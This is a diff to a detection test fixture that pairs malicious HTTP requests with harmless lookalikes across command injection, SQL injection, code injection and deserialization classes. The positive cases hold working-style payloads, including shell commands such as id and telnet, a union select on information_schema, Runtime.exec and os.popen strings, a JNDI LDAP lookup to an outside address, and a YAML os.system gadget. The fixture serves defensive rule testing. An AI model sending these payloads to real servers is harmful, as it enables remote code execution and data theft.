@@ -160,12 +160,14 @@ CLASSES: dict[str, tuple[list[Req], list[Req]]] = {
             Req("/", {"Cookie": "host=8.8.8.8%253Bcat%2520%252Fetc%252Fissue"}),  # encoded twice
             Req("/", referer("h=1.1.1.1;sleep 7")),
             Req("/t?h=x%7Ctelnet+198.51.100.3+23"),  # an address as the argument
+            Req("/", {"Cookie": "h=x%250aid"}),  # a line break, then an identity command
         ],
         [
             Req("/c", body="comment=Works+on+Linux+%26+macOS%3B+drivers+not+needed"),
             Req("/c", body="comment=Size+M+%7C+colour+blue+%7C+fits+type+B"),
             Req("/s?q=sleep+well%3B+8+hours"),
             Req("/c", body="comment=Server+at+198.51.100.7%2C+ping+198.51.100.8+if+down"),
+            Req("/c", body="comment=Documents%3A%0D%0APassport%0D%0AID"),
         ],
     ),
     "sql_probe": (
@@ -176,11 +178,13 @@ CLASSES: dict[str, tuple[list[Req], list[Req]]] = {
             Req("/login", body="user=admin%27+or"),  # the query's remainder completes the condition
             Req("/", {"Cookie": "u=x%26apos%3B%2520and%2520--"}),  # an entity t:htmlEntityDecode leaves
             Req("/s?q=x%27+and+benchmark(9,md5(1))--"),  # a function injections call
+            Req("/", referer("id=1 and 0 union select null,table_name from information_schema.tables")),
         ],
         [
             Req("/c", body="comment=Tom+O%27Brien+and+Mary+say+hi"),
             Req("/s?q=black+or+white"),
             Req("/s?q=rock+%27n%27+roll+or+jazz"),
+            Req("/", referer("q=the+union+selected+a+board")),
             Req("/c", body="comment=Tom+said+%27yes%27+and+left"),
         ],
     ),
@@ -198,6 +202,36 @@ CLASSES: dict[str, tuple[list[Req], list[Req]]] = {
             Req("/", {"X-Note": "Order (2) | gift wrap & card; deliver after 5pm", "X-Title": "Is 'A' or 'B' better?"}),
             Req("/", {"Forwarded": "for=198.51.100.7;proto=https", "If-None-Match": 'W/"5e-1b2c3d4e"'}),
             Req("/", {"Referer": "https://www.google.com/search?q=blue+shoes+(size+42)&oq=blue&ie=UTF-8"}),
+        ],
+    ),
+    "code_injection": (
+        [
+            Req("/", {"Cookie": "q=%22%3Bsystem%28%27id%27%29%3B%2F%2F"}),
+            Req("/", referer("q=${@print(md5(1))}")),
+            Req("/c", body="tpl=__import__(%27os%27).popen(%27id%27).read()"),
+            Req("/", {"X-Job": "java.lang.Runtime.getRuntime().exec('id')"}),
+        ],
+        [
+            Req("/c", body="comment=It+says+%27Runtime+error%27.+Please+fix"),
+            Req("/s?q=os+system+requirements"),
+            Req("/c", body="comment=Call+me+at+the+office+(system+is+down)"),
+        ],
+    ),
+    "deserialization": (
+        [
+            Req("/", {"Cookie": "s=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}),
+            Req(
+                "/", {"Cookie": "cart=a%3A1%3A%7Bi%3A0%3BO%3A4%3A%22Cart%22%3A1%3A%7Bs%3A1%3A%22x%22%3Bb%3A1%3B%7D%7D"}
+            ),
+            Req("/", referer('q={"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://198.51.100.4/a"}')),
+            Req("/c", body="cfg=%21%21python%2Fobject%2Fapply%3Aos.system+%5B%22id%22%5D"),
+            Req("/", referer("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")),
+        ],
+        [
+            Req("/c", body="ld=%7B%22%40type%22%3A+%22Product%22%2C+%22name%22%3A+%22Shoe%22%7D"),
+            Req("/c", body="comment=Class+module+3+starts+Monday.+Bring+the+loader."),
+            Req("/c", body="comment=Rated+5%2F5+!!+Loved+it+!!"),
+            Req("/", {"Cookie": "sid=Q3VzdG9tZXJJRD0xMjM0NQ%3D%3D; prefs=a%3A2%3Bb%3A3"}),
         ],
     ),
     "sql_system_procedure": (
